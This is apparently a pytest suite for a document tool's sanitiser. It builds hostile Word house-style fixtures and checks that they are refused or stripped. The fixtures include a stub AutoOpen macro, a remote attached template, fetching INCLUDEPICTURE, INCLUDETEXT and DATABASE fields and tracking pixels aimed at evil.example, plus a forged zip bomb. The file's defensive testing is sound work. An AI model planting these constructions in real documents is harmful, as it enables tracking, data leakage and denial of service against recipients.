"""Hostile house styles (`--reference-docx`): zip bombs, devices, macros, remote templates.

Each fixture is built here with zipfile from a plain python-docx document. Oversized or
non-regular files are refused with exit 2 in well under a second, before anything is parsed;
macros, external links, customXml, OLE and active fields are left out of every output and the
user is told once.
"""

from __future__ import annotations

import io
import os
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

import svauthor.docs.documents  # noqa: F401 - imported up front: the speed checks time the build
from svauthor.cli import main
from svauthor.docs import housestyle

from .conftest import EXAMPLES

SPEC = str(EXAMPLES / "wirral-befriending.yaml")
EVIL = "evil.example"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def plain_docx() -> bytes:
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "ACME Council - OFFICIAL"
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def rewrite(data: bytes, edit: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, payload in parts.items():
            dst.writestr(name, payload)
    return out.getvalue()


def add_rel(parts: dict[str, bytes], rels: str, rel_id: str, rel_type: str, target: str,
            external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    rel = (f'<Relationship Id="{rel_id}" Type="{R_NS}/{rel_type}" Target="{target}"{mode}/>')
    base = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
                     b'"http://schemas.openxmlformats.org/package/2006/relationships">'
                     b'</Relationships>')
    parts[rels] = base.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def hostile(parts: dict[str, bytes]) -> None:
    """Macros, a remote attached template, OLE, external links and a fetching field."""
    ct = parts["[Content_Types].xml"]
    ct = ct.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    ct = ct.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/'
                    b'vnd.ms-office.vbaProject"/><Override PartName="/word/vbaProject.bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    parts["[Content_Types].xml"] = ct
    parts["word/vbaProject.bin"] = b"Attribute VB_Name = \"AutoOpen\" Shell(\"calc\")"
    add_rel(parts, "word/_rels/document.xml.rels", "rId90", "vbaProject", "vbaProject.bin")
    parts["word/embeddings/oleObject1.bin"] = b"OLE payload"
    add_rel(parts, "word/_rels/document.xml.rels", "rId91", "oleObject", "embeddings/oleObject1.bin")
    add_rel(parts, "word/_rels/settings.xml.rels", "rId1", "attachedTemplate",
            f"http://{EVIL}/template.dotm", external=True)
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rId1"/><w:zoom'.encode(), 1)
    add_rel(parts, "word/_rels/header1.xml.rels", "rId5", "hyperlink", f"http://{EVIL}/x",
            external=True)
    add_rel(parts, "word/_rels/header1.xml.rels", "rId6", "image", f"http://{EVIL}/pixel.png",
            external=True)
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:p></w:hdr>",
        f'<w:hyperlink xmlns:r="{R_NS}" r:id="rId5"><w:r><w:t>link</w:t></w:r></w:hyperlink>'
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
        f'"http://{EVIL}/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        f'</w:r><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:r="{R_NS}" r:id="rId6"/></w:pict></w:r></w:p></w:hdr>'.encode())
    parts["customXml/item9.xml"] = f"<secret>http://{EVIL}/data</secret>".encode()


def build(capsys: pytest.CaptureFixture[str], tmp_path: Path, ref: Path) -> tuple[int, str, float]:
    """Exit code, stderr, and the CPU seconds the build used (CPU time, not wall time, so a
    loaded machine cannot fail the speed checks)."""
    start = time.process_time()
    code = main(["build", SPEC, "-o", str(tmp_path / "out"), "--reference-docx", str(ref),
                 "--today", "2026-11-27"])
    elapsed = time.process_time() - start
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "internal problem" not in err
    return code, err, elapsed


def test_macros_remote_template_ole_and_external_links_are_left_out(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ref = tmp_path / "house.dotm"
    ref.write_bytes(rewrite(plain_docx(), hostile))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    notes = [line for line in err.splitlines() if line.startswith("note: ") and "left out" in line]
    assert len(notes) == 1, err  # told once, not once per document
    for words in ("macros", "attached template", "external links", "customXml",
                  "embedded objects", "active fields"):
        assert words in notes[0], notes[0]
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            blob = b"".join(z.read(n) for n in names)
        assert not any("vba" in n.lower() or n.startswith("customXml/") or "embeddings" in n
                       for n in names), names
        assert EVIL.encode() not in blob and b"attachedTemplate" not in blob
        assert b"INCLUDEPICTURE" not in blob and b"vbaProject" not in blob
        d = docx.Document(str(path))
        assert d.sections[0].header.paragraphs[0].text.startswith("ACME Council - OFFICIAL")


def zip_bomb(path: Path) -> None:
    """A small file whose zip directory declares more than the cap (as a real bomb does)."""
    data = rewrite(plain_docx(), lambda parts: parts.update({"word/media/image1.png": b"x"}))
    declared = (housestyle.MAX_UNCOMPRESSED_BYTES + 1).to_bytes(4, "little")
    central = data.rindex(b"PK\x01\x02")  # the last entry's central directory record
    data = data[:central + 24] + declared + data[central + 28:]
    path.write_bytes(data)


def many_entries(path: Path) -> None:
    path.write_bytes(rewrite(plain_docx(), lambda parts: parts.update(
        {f"word/media/i{i}.png": b"" for i in range(housestyle.MAX_ENTRIES + 1)})))


def dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def fifo(path: Path) -> None:
    os.mkfifo(path)


def huge(path: Path) -> None:
    with open(path, "wb") as fh:  # sparse: no disk used
        fh.truncate(housestyle.MAX_FILE_BYTES + 1)


@pytest.mark.parametrize(("make", "words"), [
    (zip_bomb, "zip bomb"),
    (many_entries, "parts; a house style has at most"),
    (dev_zero, "not a regular file"),
    (fifo, "not a regular file"),
    (huge, "a house style may be at most"),
])
def test_oversized_or_irregular_house_styles_are_refused_fast(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, make: Callable[[Path], None],
        words: str) -> None:
    ref = tmp_path / "house.docx"
    make(ref)
    code, err, elapsed = build(capsys, tmp_path, ref)
    assert code == 2 and words in err and str(ref) in err, err
    assert elapsed < 1.0
    assert not (tmp_path / "out").exists()


def test_sanitise_keeps_what_a_house_style_needs() -> None:
    clean = housestyle.sanitise(plain_docx(), "house.docx")
    with zipfile.ZipFile(io.BytesIO(clean.data)) as z:
        names = set(z.namelist())
    assert {"word/styles.xml", "word/numbering.xml", "word/theme/theme1.xml",
            "word/header1.xml", "word/settings.xml", "word/fontTable.xml"} <= names
    assert not any(n.startswith("customXml/") or "thumbnail" in n for n in names)
    assert clean.dropped == ["customXml data", "the thumbnail picture"]


def split_field_and_remote_pictures(parts: dict[str, bytes]) -> None:
    """A fetching field split over two instruction runs, one nested in a QUOTE field, a VML
    picture with remote `src`/`o:href`, and leaky file properties (R1, R2)."""
    split = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             '<w:r><w:instrText xml:space="preserve"> INCL</w:instrText></w:r>'
             f'<w:r><w:instrText xml:space="preserve">UDEPICTURE "http://{EVIL}/split.png" \\d '
             '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             '<w:r><w:t>SHOWN</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText xml:space="preserve"> QUOTE </w:instrText></w:r>'
              '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              f'<w:r><w:instrText xml:space="preserve"> includetext "\\\\\\\\{EVIL}\\\\share\\\\x" '
              '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
              '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    page = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    vml = ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
           'xmlns:o="urn:schemas-microsoft-com:office:office" style="width:9pt;height:9pt">'
           f'<v:imagedata src="http://{EVIL}/vml.png" o:href="file://{EVIL}/href.png"/>'
           '</v:shape></w:pict></w:r>')
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:p>", (split + nested + page + vml + "</w:p>").encode(), 1)
    background = ('<w:background w:color="FFFFFF"><v:background xmlns:v="urn:schemas-microsoft-'
                  'com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" id="bg">'
                  f'<v:fill src="http://{EVIL}/page.png" o:href="http://{EVIL}/page-href.png" '
                  'type="tile"/></v:background></w:background>')
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", background.encode() + b"<w:body>", 1)  # a page background picture
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", f"<Company>LEAKY CORP</Company><Manager>A Manager</Manager>"
        f"<HyperlinkBase>http://{EVIL}/base/</HyperlinkBase></Properties>".encode())
    parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
        b"</cp:coreProperties>", b"<cp:contentStatus>INTERNAL ONLY</cp:contentStatus>"
        b"<dc:identifier>LEAK-ID</dc:identifier><cp:version>LEAK-VERSION</cp:version>"
        b"</cp:coreProperties>")


def test_split_and_nested_fetching_fields_remote_pictures_and_properties_are_dropped(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ref = tmp_path / "house.docx"
    ref.write_bytes(rewrite(plain_docx(), split_field_and_remote_pictures))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    assert "active fields" in err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            blob = b"".join(z.read(n) for n in z.namelist())
            header = b"".join(z.read(n) for n in z.namelist() if n.startswith("word/header"))
        for leak in (EVIL.encode(), b"INCLUDEPICTURE", b"includetext", b"UDEPICTURE",
                     b"LEAKY CORP", b"A Manager", b"HyperlinkBase", b"INTERNAL ONLY",
                     b"LEAK-ID", b"LEAK-VERSION"):
            assert leak not in blob, (path.name, leak)
        assert b" PAGE " in header  # an ordinary field is kept
        assert b" QUOTE " not in header  # the field around a fetching one goes with it
        d = docx.Document(str(path))
        assert d.core_properties.title  # svauthor's own properties are still written


def restricted_editing(parts: dict[str, bytes]) -> None:
    """Review > Restrict Editing with a password, read-only recommended, and a save-through
    transform and attached schema (R22)."""
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom", b'<w:writeProtection w:recommended="1"/><w:zoom', 1).replace(
        b"</w:settings>", b'<w:documentProtection w:edit="readOnly" w:enforcement="1" '
        b'w:cryptProviderType="rsaAES" w:cryptAlgorithmSid="14" w:cryptSpinCount="100000" '
        b'w:hash="AAAA" w:salt="BBBB"/><w:saveThroughXslt r:id="rId9" xmlns:r="'
        + R_NS.encode() + b'"/><w:attachedSchema w:val="urn:leak"/></w:settings>')


def test_restrict_editing_is_not_copied_into_documents(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    ref = tmp_path / "protected.docx"
    ref.write_bytes(rewrite(plain_docx(), restricted_editing))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    notes = [line for line in err.splitlines() if "left out" in line]
    assert len(notes) == 1 and "editing restrictions" in notes[0], err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            settings = z.read("word/settings.xml")
        for tag in (b"documentProtection", b"writeProtection", b"saveThroughXslt",
                    b"attachedSchema", b"urn:leak"):
            assert tag not in settings, (path.name, tag)


def long_house_style(parts: dict[str, bytes]) -> None:
    """A house style that is mostly a long document: a body of 3,000 paragraphs with a picture,
    500 styles no document uses, a list definition nothing uses, and real footnotes (R15)."""
    body = "".join(f"<w:p><w:r><w:t>BODYTEXT {i}</w:t></w:r></w:p>" for i in range(3000))
    body += ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
             'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.'
             'openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip xmlns:r="'
             f'{R_NS}" r:embed="rId77"/></a:graphicData></a:graphic></wp:inline></w:drawing>'
             '</w:r></w:p>')
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + body.encode(), 1)
    parts["word/media/bodypicture.png"] = b"\x89PNG body picture"
    add_rel(parts, "word/_rels/document.xml.rels", "rId77", "image", "media/bodypicture.png")
    extra = "".join(f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="Unused{i}">'
                    f'<w:name w:val="Unused style {i}"/><w:basedOn w:val="Normal"/></w:style>'
                    for i in range(500))
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"</w:styles>", extra.encode() + b"</w:styles>")
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
        b"</w:numbering>", b'<w:num w:numId="977"><w:abstractNumId w:val="0"/></w:num>'
        b"</w:numbering>")


def test_only_what_the_pack_uses_is_kept_from_a_long_house_style(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    clean = housestyle.sanitise(rewrite(plain_docx(), long_house_style), "long.docx",
                                keep_styles=("Normal", "Heading 1", "List Number", "Table Grid"))
    with zipfile.ZipFile(io.BytesIO(clean.data)) as z:
        names = set(z.namelist())
        document = docx.Document(io.BytesIO(clean.data))
        styles = z.read("word/styles.xml")
        numbering = z.read("word/numbering.xml")
    assert clean.dropped == ["customXml data", "the thumbnail picture"]  # nothing to tell
    assert list(document.element.body) == [document.element.body.sectPr]
    assert "word/media/bodypicture.png" not in names and "word/header1.xml" in names
    assert b"Unused" not in styles and b'w:numId="977"' not in numbering
    kept = {s.name for s in document.styles}
    assert {"Normal", "Heading 1", "List Number", "Table Grid", "Header"} <= kept, kept
    list_number = document.styles["List Number"].element
    num_id = list_number.pPr.numPr.numId.val  # its list definition came along
    assert f'w:numId="{num_id}"'.encode() in numbering

    ref = tmp_path / "long.docx"
    ref.write_bytes(rewrite(plain_docx(), long_house_style))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            names = set(z.namelist())
            blob = b"".join(z.read(n) for n in names)
        assert b"BODYTEXT" not in blob and b"Unused style" not in blob, path.name
        assert "word/media/bodypicture.png" not in names, path.name
        d = docx.Document(str(path))
        assert d.sections[0].header.paragraphs[0].text.startswith("ACME Council - OFFICIAL")


def test_oversized_styles_are_refused_fast(capsys: pytest.CaptureFixture[str],
                                           tmp_path: Path) -> None:
    """Styles are read for every document: more than MAX_XML_PART_BYTES is refused before
    anything is parsed (a 17 MB styles.xml took 84 s and 700 MB before, R15)."""
    count = housestyle.MAX_XML_PART_BYTES // 60  # each style is over 70 bytes
    extra = "".join(f'<w:style w:type="paragraph" w:styleId="X{i}"><w:name w:val="X {i}"/>'
                    f'</w:style>' for i in range(count)).encode()
    ref = tmp_path / "bigstyles.docx"
    ref.write_bytes(rewrite(plain_docx(), lambda parts: parts.update({
        "word/styles.xml": parts["word/styles.xml"].replace(b"</w:styles>",
                                                            extra + b"</w:styles>")})))
    code, err, elapsed = build(capsys, tmp_path, ref)
    assert code == 2 and "word/styles.xml" in err and "at most" in err, err
    assert elapsed < 1.0
    assert not (tmp_path / "out").exists()


def test_the_pipeline_summary_uses_the_sanitised_house_style(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """The forward-plan summary is built on the same cleaned house style as a pack, not on the
    raw file (which carried its fetching fields and leaky properties)."""
    plan = tmp_path / "plan.csv"
    plan.write_text("\n".join((EXAMPLES / "forward-plan.csv").read_text().splitlines()[:3]) + "\n")
    ref = tmp_path / "house.docx"
    ref.write_bytes(rewrite(plain_docx(), split_field_and_remote_pictures))
    code = main(["pipeline", str(plan), "-o", str(tmp_path / "plan-out"), "--reference-docx",
                 str(ref), "--workers", "1", "--today", "2026-11-27"])
    out, err = capsys.readouterr()
    assert code in (0, 1) and "Traceback" not in out + err, err
    with zipfile.ZipFile(tmp_path / "plan-out" / "pipeline-summary.docx") as z:
        names = z.namelist()
        blob = b"".join(z.read(n) for n in names)
    assert not any(n.startswith("customXml/") for n in names), names
    for leak in (EVIL.encode(), b"UDEPICTURE", b"LEAKY CORP", b"INTERNAL ONLY"):
        assert leak not in blob, leak
    with zipfile.ZipFile(ref) as z:
        assert b"LEAKY CORP" in z.read("docProps/app.xml")  # the fixture really is hostile


def tiny_png() -> bytes:
    """A valid 1x1 PNG, made here so the test needs no picture file."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def test_a_logo_in_the_header_and_footer_is_kept(capsys: pytest.CaptureFixture[str],
                                                 tmp_path: Path) -> None:
    """A council's header is mostly its logo: the running header goes beside it, never over it
    (R36); a kept picture without alternative text is pointed out once."""
    d = docx.Document()
    section = d.sections[0]
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(tiny_png()))
    section.footer.paragraphs[0].add_run().add_picture(io.BytesIO(tiny_png()))
    header_pr = section.header._element.find(f".//{{{housestyle._WP}}}docPr")
    header_pr.set("descr", "ACME Council logo")
    ref = tmp_path / "logo.docx"
    d.save(str(ref))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    warnings = [line for line in err.splitlines() if "alternative text" in line]
    assert len(warnings) == 1 and "its footer has no" in warnings[0], err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        out = docx.Document(str(path))
        header = out.sections[0].header
        assert header._element.xpath(".//a:blip"), path.name
        assert 'descr="ACME Council logo"' in header._element.xml
        assert any(p.text for p in header.paragraphs)  # the running header is there too
        assert out.sections[0].footer._element.xpath(".//a:blip"), path.name
        for rel in header.part.rels.values():
            if rel.reltype.endswith("/image"):
                assert rel.target_part.blob == tiny_png()


def test_a_libreoffice_house_style_gets_one_set_of_fresh_properties(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """LibreOffice spells the core-properties relationship type differently; python-docx then
    added a second docProps/core.xml (the house style's own, leaks and all) beside its own."""
    def libreoffice(parts: dict[str, bytes]) -> None:
        parts["_rels/.rels"] = parts["_rels/.rels"].replace(
            b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
            b"core-properties", b"http://schemas.openxmlformats.org/officedocument/2006/"
            b"relationships/metadata/core-properties")
        parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
            b"</cp:coreProperties>", b"<cp:contentStatus>INTERNAL ONLY</cp:contentStatus>"
            b"</cp:coreProperties>")

    ref = tmp_path / "lo.docx"
    ref.write_bytes(rewrite(plain_docx(), libreoffice))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    for path in sorted((tmp_path / "out").glob("*.docx")):
        with zipfile.ZipFile(path) as z:
            names = z.namelist()
            blob = b"".join(z.read(n) for n in names)
        assert names.count("docProps/core.xml") == 1, (path.name, names)
        assert b"INTERNAL ONLY" not in blob
        assert docx.Document(str(path)).core_properties.title


def test_the_running_header_is_on_a_house_style_first_and_even_pages(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A letterhead-style house style (different first page, odd and even pages) still shows the
    document type, or DRAFT, at the top of every page, beside its own first-page header."""
    d = docx.Document()
    section = d.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "ACME LETTERHEAD"
    d.settings.odd_and_even_pages_header_footer = True
    ref = tmp_path / "letterhead.docx"
    d.save(str(ref))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    outputs = sorted((tmp_path / "out").glob("*-questions.docx"))
    assert outputs
    out = docx.Document(str(outputs[0])).sections[0]
    first = [p.text for p in out.first_page_header.paragraphs]
    assert first[0] == "ACME LETTERHEAD" and "Social Value questions for bidders" in first[1]
    for header in (out.header, out.even_page_header):
        assert any("Social Value questions for bidders" in p.text for p in header.paragraphs)


@pytest.mark.parametrize("ending", [
    "",  # the body's own last section: cut out of the bytes, the body never parsed
    '<w:p><w:pPr><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:pPr></w:p>',
    "SECTPRCHANGE",  # a tracked change inside the last section's settings
])
def test_the_body_is_emptied_to_its_own_last_section(ending: str) -> None:
    """However the body ends, only the body's own final sectPr (with its header and footer
    references) is kept: not a section break inside a paragraph."""
    def edit(parts: dict[str, bytes]) -> None:
        doc = parts["word/document.xml"]
        if ending == "SECTPRCHANGE":
            doc = doc.replace(b"</w:sectPr></w:body>", b'<w:sectPrChange w:id="1" w:author="x">'
                              b"<w:sectPr/></w:sectPrChange></w:sectPr></w:body>")
        else:
            doc = doc.replace(b"<w:sectPr", ending.encode() + b"<w:p><w:r><w:t>BODY</w:t></w:r>"
                              b"</w:p><w:sectPr", 1)
        parts["word/document.xml"] = doc

    clean = housestyle.sanitise(rewrite(plain_docx(), edit), "h.docx", keep_styles=("Normal",))
    document = docx.Document(io.BytesIO(clean.data))
    body = list(document.element.body)
    assert [el.tag.rsplit("}", 1)[-1] for el in body] == ["sectPr"]
    assert document.sections[0].header.paragraphs[0].text == "ACME Council - OFFICIAL"


_W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def hidden_defaults(parts: dict[str, bytes]) -> None:
    """Document defaults that hide all text: hidden, white, 1 pt (R57)."""
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(
        b"<w:rPrDefault><w:rPr>",
        b'<w:rPrDefault><w:rPr><w:vanish/><w:color w:val="FFFFFF"/><w:sz w:val="2"/>', 1)


def hidden_table_style(parts: dict[str, bytes]) -> None:
    """Only the table style hides its text; the body text stays readable."""
    styles = parts["word/styles.xml"]
    start = styles.index(b'w:styleId="TableGrid"')
    at = styles.index(b"<w:tblPr>", start)
    parts["word/styles.xml"] = (styles[:at] + b"<w:rPr><w:vanish/><w:specVanish/>"
                                b"<w:webHidden/><w:sz w:val=\"6\"/></w:rPr>" + styles[at:])


@pytest.mark.parametrize("edit", [hidden_defaults, hidden_table_style])
def test_a_house_style_that_hides_text_is_made_readable_and_says_so(
        capsys: pytest.CaptureFixture[str], tmp_path: Path,
        edit: Callable[[dict[str, bytes]], None]) -> None:
    ref = tmp_path / "hidden.docx"
    ref.write_bytes(rewrite(plain_docx(), edit))
    code, err, _ = build(capsys, tmp_path, ref)
    assert code in (0, 1), err
    notes = [line for line in err.splitlines() if "left out" in line]
    assert len(notes) == 1 and "hides text" in notes[0], err
    outputs = sorted((tmp_path / "out").glob("*.docx"))
    assert len(outputs) >= 4
    for path in outputs:
        d = docx.Document(str(path))  # re-opened: the styles every paragraph and table lean on
        root = d.styles.element
        for rpr in root.iter(f"{_W}rPr"):
            tags = {el.tag.removeprefix(_W) for el in rpr}
            assert not tags & {"vanish", "specVanish", "webHidden"}, path.name
            for el in rpr.iter(f"{_W}sz"):
                assert int(el.get(f"{_W}val", "0")) >= 16, path.name
        defaults = root.find(f"{_W}docDefaults")
        assert defaults is None or all(
            c.get(f"{_W}val", "").upper() != "FFFFFF" for c in defaults.iter(f"{_W}color"))
        assert any(t.rows for t in d.tables) or "questions" not in path.name


def test_white_text_on_a_shaded_heading_row_is_kept() -> None:
    """White on a dark table heading is design, not hiding: only unshaded white goes."""
    styles = (f'<w:styles xmlns:w="{_W[1:-1]}"><w:style w:type="table" w:styleId="Dark">'
              '<w:tblStylePr w:type="firstRow"><w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
              '<w:tcPr><w:shd w:val="clear" w:fill="1F3864"/></w:tcPr></w:tblStylePr></w:style>'
              '<w:style w:type="paragraph" w:styleId="Ghost"><w:rPr><w:color w:val="FFFFFF"/>'
              '</w:rPr></w:style></w:styles>').encode()
    parts = {"word/styles.xml": styles}
    assert housestyle._unhide_styles(parts)
    out = parts["word/styles.xml"]
    assert out.count(b'w:val="FFFFFF"') == 1 and b"1F3864" in out
    assert not housestyle._unhide_styles(parts)  # nothing left to drop: no notice


@pytest.mark.parametrize("code", [
    ' DATABASE \\d "//files.example.net/share/x.mdb" \\s "SELECT 1" ',
    ' DATABASE \\c "Provider=SQLOLEDB;Data Source=evil.example" \\s "SELECT 1" ',
    ' INCLUDE "C:/Users/Public/secret.docx" ',
    ' QUOTE "//files.example.net/share/logo.txt" ',
])
def test_fields_that_query_or_include_from_elsewhere_are_dropped(
        code: str, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Word's DATABASE and INCLUDE fields, and a network path written with forward slashes,
    fetch as surely as INCLUDETEXT does: none reaches a document; ordinary fields stay."""
    def plant(parts: dict[str, bytes]) -> None:
        fetching = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                    f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        simple = f'<w:fldSimple w:instr=\'{code}\'><w:r><w:t>X</w:t></w:r></w:fldSimple>'
        page = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
        parts["word/header1.xml"] = parts["word/header1.xml"].replace(
            b"</w:p>", (fetching + simple + page + "</w:p>").encode(), 1)

    ref = tmp_path / "house.docx"
    ref.write_bytes(rewrite(plain_docx(), plant))
    code_, err, _ = build(capsys, tmp_path, ref)
    assert code_ in (0, 1), err
    assert "active fields" in err
    for path in sorted((tmp_path / "out").glob("*.docx")):
        with zipfile.ZipFile(path) as z:
            header = b"".join(z.read(n) for n in z.namelist() if n.startswith("word/header"))
        for word in (b"DATABASE", b"INCLUDE", b"files.example.net", b"evil.example"):
            assert word not in header, (path.name, word)
        assert b" PAGE " in header
